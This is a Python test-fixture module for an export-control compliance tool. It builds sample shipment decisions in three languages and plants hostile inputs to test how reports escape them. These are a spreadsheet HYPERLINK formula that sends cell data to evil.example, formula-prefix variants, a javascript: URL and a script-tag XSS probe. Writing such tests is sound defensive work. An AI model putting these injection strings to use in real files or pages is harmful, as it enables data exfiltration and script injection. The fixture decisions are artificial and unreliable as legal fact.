"""Decisions made by hand, for the tests of the reports: every outcome, three languages, and texts that bite."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

from recomply.decision.model import (
    Basis,
    Control,
    Decision,
    Document,
    Evidence,
    Finding,
    HeldLicense,
    LicenseCheck,
    LicenseOption,
    Licensing,
    LineDecision,
    Obligation,
    Question,
    RulebookRef,
    TimeLimit,
)
from recomply.decision.trace import Node, RuleTrace
from recomply.errors import Problem
from recomply.outcome import Outcome
from recomply.record.model import Batch, Column, Record
from recomply.words import Words

URL = "https://www.mofcom.gov.cn/zwgk/zcfb/art/2026/art_8990fedae8fa462eb02cc9bae5034e91.html"
BAN = Basis(
    instrument="MOFCOM-2026-001",
    provision="para 1",
    url=URL,
    confidence="primary",
    title="商务部公告2026年第1号 关于加强两用物项对日本出口管制的公告",
)
LISTED = Basis(instrument="MOFCOM-2026-011", provision="para 1", url=URL.replace("8990", "7711"), confidence="primary")
READING = Basis(instrument="NPC-ECL-2020", provision="art. 12", url="javascript:alert(1)", confidence="own_analysis")
RARE_EARTH = Basis(
    instrument="MOFCOM-GACC-2025-018",
    provision="item 1C905.b",
    confidence="secondary",
    url="https://example.org/18",
    title="关于公布对部分中重稀土相关物项实施出口管制决定的公告",
)

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
BITES = (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1", " =1+1", "＝1+1")

ENHANCES = Words(
    en="Any end use that helps raise Japan's military strength",
    zh="其他有助于提升日本军事实力的用途",
    ja="日本の軍事力向上に寄与する用途",
)
MILITARY_USER = Words(en="Export to a Japanese military user", zh="对日本军事用户出口", ja="日本の軍事ユーザーへの輸出")
NEEDS_LICENCE = Words(
    en="Listed dual-use item: licence needed", zh="列管两用物项：需要许可", ja="リスト規制品：許可が必要"
)
CONTROL_LIST = Words(en="Consignee on the control list", zh="收货人列入管控名单", ja="荷受人が管理リストに掲載")

WHO_USES_IT = Question(
    id="final_user",
    kind="fact",
    fact="end_use.final_user_known",
    settled_by="end_user_certificate",
    ask=Words(
        en="Who is the final user of the goods, and what will be made of them?",
        zh="货物的最终用户是谁，将用于生产什么？",
        ja="貨物の最終需要者はどなたですか。また何の製造に使われますか。",
    ),
    would_settle=("jp-2026-001-capability", "jp-2026-001-military-user"),
)
IS_IT_IN_FORCE = Question(
    id="MOFCOM-2025-057",
    kind="law",
    fact="MOFCOM-2025-057",
    ask=Words(
        en="Is the suspension of this announcement still running on the day of export?",
        zh="出口当日，该公告是否仍处于暂停实施状态？",
        ja="輸出日の時点で、この公告の停止は継続していますか。",
    ),
    would_settle=("re-2025-057",),
)


def fact(text: str, truth: str, read: str = "", subject: str = "") -> Node:
    return Node(kind="fact", truth=truth, text=text, read=read, subject=subject or text.split()[0])


def tree(first: str, second: str, third: str) -> Node:
    """all(destination, any(not(civil), military user), in force) with the truths given."""
    opposite = {"true": "false", "false": "true", "unknown": "unknown"}
    order = ("false", "unknown", "true")
    middle = max(opposite[second], third, key=order.index)
    return Node(
        kind="all",
        truth=min(first, middle, key=order.index),
        text="all of",
        children=(
            Node(
                kind="in_force",
                truth="true",
                text="MOFCOM-2026-001 is in force",
                subject="MOFCOM-2026-001",
                read="in force since 2026-01-06",
            ),
            fact("the destination is JP", first, "JP" if first == "true" else "TH", "shipment.destination"),
            Node(
                kind="any",
                truth=middle,
                text="at least one of",
                children=(
                    Node(
                        kind="not",
                        truth=opposite[second],
                        text="not",
                        children=(fact("the end use is civil", second, "在庫販売 <b>", "end_use.civil"),),
                    ),
                    Node(
                        kind="is",
                        truth=third,
                        text="the end user is a military user",
                        subject="military_user",
                        children=(
                            fact(
                                "the end user's name is that of an armed force",
                                third,
                                "Minato Boeki & Co",
                                "end_user.kind",
                            ),
                        ),
                    ),
                ),
            ),
        ),
    )


def traced(line: LineDecision, *traces: RuleTrace) -> LineDecision:
    line._trace = traces
    return line


def not_met(count: int) -> list[RuleTrace]:
    reasons = ("the goods are a magnet", "the destination is US", "the transaction is a re-export")
    return [
        RuleTrace(
            rule=f"other-rule-{n:03}",
            truth="false",
            tree=Node(
                kind="all",
                truth="false",
                text="all of",
                children=(fact(reasons[n % 3], "false", "powder"), fact("is heavy", "true")),
            ),
        )
        for n in range(count)
    ]


def prohibited_line(line: int | str = 1) -> LineDecision:
    return traced(
        LineDecision(
            line=line,
            description="GaN T/R modules for airborne AESA radar",
            outcome=Outcome.PROHIBITED,
            at_least=Outcome.PROHIBITED,
            at_most=Outcome.PROHIBITED,
            categories=("military_user", "military_use"),
            controls=(
                Control(
                    code="3A901",
                    truth="true",
                    instrument="MOFCOM-2024-051",
                    name="微波单片集成电路功率放大器",
                    why="the parameters meet the entry",
                ),
                Control(code="3A902", truth="unknown", instrument="MOFCOM-2024-051", why="the frequency is not given"),
            ),
            findings=(
                Finding(
                    rule="jp-2026-001-military-user",
                    title=MILITARY_USER,
                    truth="true",
                    outcome=Outcome.PROHIBITED,
                    category="military_user",
                    basis=(BAN,),
                    reading="text",
                    because="The end user is the acquisition agency of the Ministry of Defense.",
                    evidence=(
                        Evidence(
                            fact="end_user.kind",
                            value="military",
                            field="end_user.name",
                            text="防衛装備庁 ＆ <script>alert('x')</script>",
                        ),
                        Evidence(
                            fact="end_use.military",
                            value="true",
                            field="end_use",
                            text="airborne AESA radar, contract with ATLA",
                        ),
                    ),
                ),
                Finding(
                    rule="list-2026-011",
                    title=CONTROL_LIST,
                    truth="true",
                    outcome=Outcome.PROHIBITED,
                    basis=(LISTED, BAN),
                    reading="ours",
                    because=FORMULA,
                    evidence=(
                        Evidence(
                            fact="consignee.listed",
                            value="MOFCOM-2026-011 no. 4",
                            field="consignee.name",
                            text=FORMULA,
                        ),
                    ),
                ),
                Finding(
                    rule="re-2025-018",
                    title=NEEDS_LICENCE,
                    truth="true",
                    outcome=Outcome.LICENSE_REQUIRED,
                    basis=(RARE_EARTH,),
                    reading="text",
                    because="The goods meet 3A901.",
                ),
            ),
            obligations=(
                Obligation(
                    id="stop",
                    basis=(READING,),
                    text=Words(
                        en="Stop any activity under way at once.",
                        zh="立即停止正在进行的相关活动。",
                        ja="進行中の活動を直ちに停止すること。",
                    ),
                ),
            ),
        ),
        RuleTrace(rule="jp-2026-001-military-user", truth="true", tree=tree("true", "false", "true")),
        RuleTrace(rule="list-2026-011", truth="true", tree=fact("the consignee is on a control list", "true", FORMULA)),
        *not_met(7),
    )


def review_line(line: int | str = 1, description: str = "dysprosium oxide, purity 99.9% 氧化镝") -> LineDecision:
    return traced(
        LineDecision(
            line=line,
            description=description,
            outcome=Outcome.REVIEW,
            at_least=Outcome.LICENSE_REQUIRED,
            at_most=Outcome.PROHIBITED,
            categories=("capability_enhancement",),
            controls=(
                Control(
                    code="1C905.b",
                    truth="true",
                    instrument="MOFCOM-GACC-2025-018",
                    name="镝的氧化物",
                    why="oxide of Dy, HS 2846901500",
                ),
            ),
            findings=(
                Finding(
                    rule="re-2025-018",
                    title=NEEDS_LICENCE,
                    truth="true",
                    outcome=Outcome.LICENSE_REQUIRED,
                    basis=(RARE_EARTH,),
                    reading="text",
                    because="Dysprosium oxide is entry 1C905.b.",
                    evidence=(Evidence(fact="line.controls", value="1C905.b", field="hs_code", text="2846901500"),),
                ),
                Finding(
                    rule="jp-2026-001-capability",
                    title=ENHANCES,
                    truth="unknown",
                    outcome=Outcome.PROHIBITED,
                    category="capability_enhancement",
                    basis=(BAN, READING),
                    reading="ours",
                    because=f"{ENHANCES.en}: cannot be decided. {WHO_USES_IT.ask.en}",
                    evidence=(
                        Evidence(
                            fact="end_use.kind",
                            value="unknown",
                            field="end_use",
                            text="general industrial use / 在庫販売",
                        ),
                    ),
                ),
                Finding(
                    rule="jp-2026-001-military-user",
                    title=MILITARY_USER,
                    truth="unknown",
                    outcome=Outcome.PROHIBITED,
                    category="military_user",
                    basis=(BAN,),
                    reading="text",
                    because="The end user is not named.",
                ),
            ),
            questions=(WHO_USES_IT, IS_IT_IN_FORCE),
            obligations=(
                Obligation(
                    id="declare",
                    basis=(RARE_EARTH,),
                    text=Words(
                        en="Declare the control code in the remarks field.",
                        zh="在备注栏填写管制编码。",
                        ja="備考欄に規制番号を記載すること。",
                    ),
                ),
            ),
            license=Licensing(
                kinds=("individual",),
                options=(
                    LicenseOption(kind="individual", open="true"),
                    LicenseOption(
                        kind="general",
                        open="false",
                        why=(Words(en="Attention list", zh="关注名单", ja="注視リスト"),),
                        rules=("jp-attention",),
                        basis=(BAN,),
                    ),
                ),
                policy="conditional",
                conditions=(Words(en="A written pledge.", zh="书面承诺。", ja="誓約書。"),),
                documents=(
                    Document(
                        code="end_user_certificate",
                        title=Words(en="End-user certificate", zh="最终用户证明", ja="最終需要者証明書"),
                        on_file="false",
                    ),
                    Document(code="contract", title=Words(en="Contract", zh="合同", ja="契約書"), on_file="true"),
                    Document(
                        code="risk_assessment",
                        title=Words(en="Risk assessment", zh="风险评估报告", ja="リスク評価書"),
                        on_file="unknown",
                    ),
                ),
                time_limit=Words(
                    en="45 working days; does not bind here",
                    zh="45个工作日，此处不适用",
                    ja="45営業日（本件には適用なし）",
                ),
                time_limits=(
                    TimeLimit(
                        id="query-reply",
                        text=Words(en="Answer in 7 working days", zh="7个工作日内答复", ja="7営業日以内に回答"),
                        working_days=7,
                        starts=dt.date(2026, 5, 18),
                        ends=dt.date(2026, 5, 27),
                    ),
                ),
                held=HeldLicense(
                    number="L-2026-77",
                    covers="false",
                    checks=(
                        LicenseCheck(aspect="quantity", fits="false", licensed="100 kg", why="shipped 500 kg"),
                        LicenseCheck(aspect="end_use", fits="unknown", why="cannot be compared"),
                    ),
                ),
            ),
        ),
        RuleTrace(rule="re-2025-018", truth="true", tree=fact("the goods meet an entry", "true", "1C905.b")),
        RuleTrace(rule="jp-2026-001-capability", truth="unknown", tree=tree("true", "unknown", "unknown")),
        RuleTrace(rule="jp-2026-001-military-user", truth="unknown", tree=tree("true", "true", "unknown")),
        *not_met(60),
    )


def licence_line(line: int | str = 1) -> LineDecision:
    review = review_line(line)
    return traced(
        review.model_copy(
            update={
                "outcome": Outcome.LICENSE_REQUIRED,
                "at_most": Outcome.LICENSE_REQUIRED,
                "categories": (),
                "questions": (),
                "findings": review.findings[:1],
                "description": "テルビウム含有 焼結磁石",
            }
        ),
        RuleTrace(rule="re-2025-018", truth="true", tree=fact("the goods meet an entry", "true", "1C905.b")),
        *not_met(60),
    )


def free_line(line: int | str = 1, description: str = "sintered NdFeB magnets N38, no Dy, no Tb") -> LineDecision:
    nothing = Outcome.NO_RESTRICTION_FOUND
    return traced(
        LineDecision(line=line, description=description, outcome=nothing, at_least=nothing, at_most=nothing),
        *not_met(62),
    )


def decision(
    name: str, *lines: LineDecision, problems: tuple[Problem, ...] = (), cautions: tuple[str, ...] = ()
) -> Decision:
    outcome = Outcome.most_severe(line.outcome for line in lines) if lines else Outcome.REVIEW
    return Decision(
        id=name,
        as_of=dt.date(2026, 4, 15),
        outcome=outcome,
        lines=lines,
        problems=problems,
        cautions=cautions,
        rulebook=RulebookRef(
            version="2026.11.23", knowledge_until=dt.date(2026, 10, 9), digest="sha256:" + "ab12" * 16
        ),
        engine="compiled",
        software="recomply 0.1.0",
    )


PROBLEM = Problem(
    where="出荷一覧!F4",
    field="lines[0].hs_code",
    raw="=2846.9O15",
    why="this is not an HS code;",
    advice="write 6 to 13 digits.",
)
CAUTION = "The day lies after what the rulebook knows (2026-10-09): the last known state was applied."


def decisions() -> list[Decision]:
    """Five shipments on seven lines: prohibited, review, licence, none, unreadable."""
    return [
        decision("JP-061", prohibited_line(), free_line(2)),
        decision("JP-002", review_line(1), licence_line(2), problems=(PROBLEM,), cautions=(CAUTION,)),
        decision("JP-001", licence_line(1)),
        decision("=JP-003", free_line(1, FORMULA)),
        decision(
            "record 5",
            problems=(
                Problem(where="line 5", field="", raw="{", why="this is no record.", advice="See the documentation."),
            ),
        ),
    ]


def records() -> list[Record]:
    """The records of `decisions`, on rows 4 to 9 of a sheet."""
    party = {
        "exporter": {"name": "Ganzhou Hengrui 赣州恒锐"},
        "consignee": "港貿易株式会社",
        "destination": "JP",
        "end_use": "在庫販売",
    }
    shapes = [
        ("JP-061", 2, (4, 5)),
        ("JP-002", 2, (6, 7)),
        ("JP-001", 1, (8,)),
        ("=JP-003", 1, (9,)),
        ("record 5", 0, ()),
    ]
    return [
        Record(
            number=number,
            data={
                "id": name,
                **party,
                "lines": [{"description": FORMULA, "hs_code": "0101.21", "quantity": 12.5}] * lines,
            },
            places={
                "end_use": f"出荷一覧!E{4 + number}",
                "end_user.name": "出荷一覧!D4",
                "lines[0].hs_code": f"出荷一覧!F{4 + number}",
            },
            rows=rows,
        )
        for number, (name, lines, rows) in enumerate(shapes, 1)
    ]


def batch(path: Path | None = None, kind: str = "json", **more: object) -> Batch:
    given = {
        "source": path.name if path else "shipments.jsonl",
        "path": path,
        "kind": kind,
        "records": records(),
        "columns": (Column("A", "伝票番号", "id", "header"), Column("B", "備考", "", "not understood")),
        "remarks": ("Column B (備考) was not understood and is not used.",),
    }
    return Batch(**(given | more))


def test_a_sample_survives_its_json() -> None:
    for sample in decisions():
        again = Decision.model_validate_json(sample.model_dump_json())
        assert again == sample
        assert [line.trace for line in again.lines] == [line.trace for line in sample.lines]
